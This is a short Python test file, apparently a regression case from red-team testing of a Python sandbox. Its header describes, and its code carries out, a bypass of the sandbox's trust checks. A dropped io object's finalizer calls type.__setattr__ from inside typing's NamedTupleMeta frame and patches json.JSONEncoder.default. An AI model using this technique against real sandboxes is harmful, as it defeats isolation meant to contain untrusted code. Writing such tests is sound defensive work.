# technique: an io object whose close() is a functools.partial of type.__setattr__, dropped (decref, no collection) inside NamedTupleMeta's trusted frame (its __init_subclass__ result): io's finalizer called close() with that frame on top, which passed as trusted: a stdlib class modified (red-team pass 75; io finalizers now run as user code)
# expect: any
import csv, functools, json, typing
T = typing.TypeVar("T")
def default(self, o):
    return "planted: " + repr(o)
try:
    type.__setattr__(json.JSONEncoder, "default", default)
except Exception as e:
    print("direct:", repr(e))
S = type("S", (csv.StringIO,), {"close": functools.partial(type.__setattr__, json.JSONEncoder, "default", default)})
class N(typing.NamedTuple, typing.Generic[T]):
    a: int
    @classmethod
    def __init_subclass__(cls):
        return S()        # discarded by POP_TOP in NamedTupleMeta.__new__'s own frame
print(json.JSONEncoder.default is default)
print(json.dumps(object()))
